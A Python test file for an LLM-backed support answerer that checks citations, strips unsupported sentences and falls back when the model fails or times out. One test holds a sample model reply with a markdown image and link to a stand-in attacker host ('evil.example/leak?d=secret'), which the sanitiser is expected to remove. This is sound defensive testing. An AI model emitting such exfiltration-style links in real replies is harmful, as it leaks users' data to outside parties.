"""The optional LLM answerer: LangChain plumbing with a fake chat model, citation checks and fallbacks."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from fastapi.testclient import TestClient
from langchain_core.language_models.fake_chat_models import FakeListChatModel

from assistant.api import create_app
from assistant.citation_check import check_citations
from assistant.llm_answer import load_prompt
from assistant.service import KnowledgeService, ServiceConfig
from assistant.settings import Settings

QUESTION = "How many days do I have to return an item?"


def llm_service(service: KnowledgeService, chat_model: Any, **config: Any) -> KnowledgeService:
    llm = KnowledgeService(
        service.store,
        service.embedder,
        ServiceConfig(min_dense_score=0.4, **config),
        chat_model=chat_model,
    )
    llm.load()
    return llm


def ask(service: KnowledgeService, question: str = QUESTION):
    answer, _ = service.ask(question, 5)
    return answer


def test_supported_cited_sentences_are_kept(service) -> None:
    reply = "You can return any item within 30 days of delivery for a full refund [1]."
    answer = ask(llm_service(service, FakeListChatModel(responses=[reply])))
    assert answer.found
    assert answer.text == "You can return any item within 30 days of delivery for a full refund. [1]"
    assert [c.n for c in answer.citations] == [1]
    assert answer.citations[0].hit.chunk.source == "returns.md"
    start, end = answer.citations[0].highlight
    assert "30 days" in answer.citations[0].hit.chunk.text[start:end]
    assert "llm" in answer.timings_ms


def test_markers_pointing_nowhere_and_unsupported_sentences_are_removed(service) -> None:
    reply = (
        "You can return any item within 30 days of delivery for a full refund [1]. "
        "Our CEO personally approves every refund on Mondays [9]. "
        "Penguins enjoy cold weather and fish dinners [1]. "
        "A sentence with no marker at all."
    )
    answer = ask(llm_service(service, FakeListChatModel(responses=[reply])))
    assert answer.text == "You can return any item within 30 days of delivery for a full refund. [1]"


def test_links_and_images_not_in_the_sources_are_stripped() -> None:
    passages = ["Return items within 30 days. See https://nordvik.example/returns for the form."]
    reply = (
        "Return items within 30 days [1]. ![x](https://evil.example/leak?d=secret) "
        "See https://nordvik.example/returns for the form and https://evil.example/steal [1]."
    )
    checked = check_citations(reply, passages, lambda s, n: 1.0, 0.5)
    assert "evil.example" not in checked.text
    assert "https://nordvik.example/returns" in checked.text
    assert any("image removed" in f for f in checked.flags)


def test_answer_that_only_says_not_found_abstains(service) -> None:
    from assistant.answer import NOT_FOUND

    answer = ask(llm_service(service, FakeListChatModel(responses=[NOT_FOUND["en"]])))
    assert not answer.found and answer.citations == [] and answer.related


class BrokenModel(FakeListChatModel):
    def _call(self, *args: Any, **kwargs: Any) -> str:
        raise ConnectionError("model server down")


class SlowModel(FakeListChatModel):
    def _call(self, *args: Any, **kwargs: Any) -> str:
        time.sleep(2)
        return super()._call(*args, **kwargs)


@pytest.mark.parametrize("model", [BrokenModel(responses=["x"]), SlowModel(responses=["Too late [1]."])])
def test_model_errors_and_timeouts_fall_back_to_the_extractive_answer(service, model) -> None:
    answer = ask(llm_service(service, model, llm_timeout_s=0.3))
    expected, _ = service.ask(QUESTION, 5)
    assert answer.found and answer.text == expected.text and "llm" not in answer.timings_ms


def test_weak_evidence_abstains_without_calling_the_model(service) -> None:
    model = BrokenModel(responses=["x"])
    strict = llm_service(service, model)
    strict.extractive.min_dense_score = 0.99
    answer = ask(strict, "zzz qqq")
    assert not answer.found


def test_stream_sends_drafts_then_the_checked_answer(service) -> None:
    reply = "You can return any item within 30 days of delivery for a full refund [1]."
    app = create_app(llm_service(service, FakeListChatModel(responses=[reply])), Settings())
    with TestClient(app) as client:
        response = client.post("/v1/ask/stream", json={"question": QUESTION})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/event-stream")
    events = [block.split("\n", 1) for block in response.text.strip().split("\n\n")]
    kinds = [e[0] for e in events]
    assert kinds[:-1] == ["event: draft"] * (len(kinds) - 1) and len(kinds) > 2
    assert "".join(json.loads(e[1][len("data: ") :])["text"] for e in events[:-1]) == reply
    final = json.loads(events[-1][1][len("data: ") :])
    assert kinds[-1] == "event: answer" and final["found"] and final["citations"][0]["n"] == 1


def test_stream_without_llm_sends_one_answer_event(client) -> None:
    response = client.post("/v1/ask/stream", json={"question": QUESTION})
    blocks = response.text.strip().split("\n\n")
    assert len(blocks) == 1 and blocks[0].startswith("event: answer")


def test_prompt_templates_come_from_files_and_name_the_language() -> None:
    prompt = load_prompt()
    messages = prompt.format_messages(
        language_name="Polish", max_sentences=3, not_found="Nie znalazłem.", passages="[1] x", question="q"
    )
    assert "Polish" in messages[0].content and "[1] x" in messages[1].content
    assert "instructions" in messages[0].content.lower()
